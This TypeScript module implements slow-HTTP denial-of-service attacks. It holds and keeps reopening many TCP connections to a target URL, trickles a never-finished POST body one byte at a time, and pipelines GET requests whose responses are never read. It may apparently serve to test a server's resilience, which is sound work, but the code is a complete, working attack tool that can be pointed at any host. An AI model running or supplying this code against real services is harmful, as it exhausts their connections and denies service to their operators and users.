import { connect, type Socket } from "node:net";

/** An attack under way. */
export interface Attack {
  /** How many connections it has open now. */
  open(): number;
  /** How many connections the service has ended; each was opened again. */
  ended(): number;
  stop(): void;
}

/** How an attack is made. */
export interface AttackOptions {
  localAddress: string;
  connections: number;
  /** Writes the start of a new connection. Returns the function that writes more every `everyMs`. */
  begin(socket: Socket): (() => void) | undefined;
  everyMs: number;
}

const reopenAfterMs = 50;

/** Holds a number of connections and opens each again that the service ends. */
export function startAttack(url: string, options: AttackOptions): Attack {
  const { localAddress, connections, begin, everyMs } = options;
  const { hostname: host, port } = new URL(url);
  const sockets = new Map<Socket, (() => void) | undefined>();
  let [ended, isOver] = [0, false];

  function open(): void {
    if (isOver) return;
    const socket = connect({ host, port: Number(port), localAddress });
    let isConnected = false;
    socket.on("error", () => {});
    socket.on("connect", () => {
      isConnected = true;
      sockets.set(socket, begin(socket));
    });
    socket.on("close", () => {
      sockets.delete(socket);
      if (isConnected) ended += 1;
      setTimeout(open, reopenAfterMs);
    });
  }

  for (let i = 0; i < connections; i += 1) open();
  const timer = setInterval(() => {
    for (const next of sockets.values()) next?.();
  }, everyMs);
  return {
    open: () => sockets.size,
    ended: () => ended,
    stop() {
      isOver = true;
      clearInterval(timer);
      for (const socket of sockets.keys()) socket.destroy();
    },
  };
}

/** Sends the body of a request byte by byte and never ends it. */
export function slowBody(path: string): Pick<AttackOptions, "begin" | "everyMs"> {
  const head = `POST ${path} HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\n` +
    "Content-Length: 60000\r\n\r\n";
  return {
    begin(socket) {
      socket.resume().write(head);
      return () => void socket.write(" ");
    },
    everyMs: 1000,
  };
}

/** Sends many requests at once on each connection and never reads an answer. */
export function unreadAnswers(
  path: string,
  requests: number,
  headers: Record<string, string> = {},
): Pick<AttackOptions, "begin" | "everyMs"> {
  const lines = Object.entries({ Host: "h", ...headers }).map(([name, text]) => `${name}: ${text}`);
  const request = `GET ${path} HTTP/1.1\r\n${lines.join("\r\n")}\r\n\r\n`;
  return {
    begin(socket) {
      socket.pause().write(request.repeat(requests));
      // A write is how a connection that reads nothing learns that it has been ended.
      return () => void socket.write("\r\n");
    },
    everyMs: 500,
  };
}
